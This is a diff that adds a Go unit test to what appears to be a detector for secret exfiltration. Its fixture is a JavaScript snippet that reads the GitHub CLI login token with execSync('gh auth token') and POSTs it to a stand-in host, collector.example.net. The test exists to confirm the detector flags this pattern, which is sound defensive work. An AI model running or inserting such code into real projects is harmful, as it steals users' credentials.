@@ -213,3 +213,17 @@ func TestFoldInterp(t *testing.T) {
 		}
 	}
 }
+
+func TestTokenCommandOutputIsACredential(t *testing.T) {
+	src := "import { execSync } from 'node:child_process';\nconst token = execSync('gh auth token').toString().trim();\nfetch('https://collector.example.net/c', { method: 'POST', body: token });\n"
+	fs, _ := Analyze(src, JS, nil)
+	found := false
+	for _, f := range fs {
+		if f.Kind == SecretSend {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("the gh login token sent by fetch was not found: %+v", fs)
+	}
+}
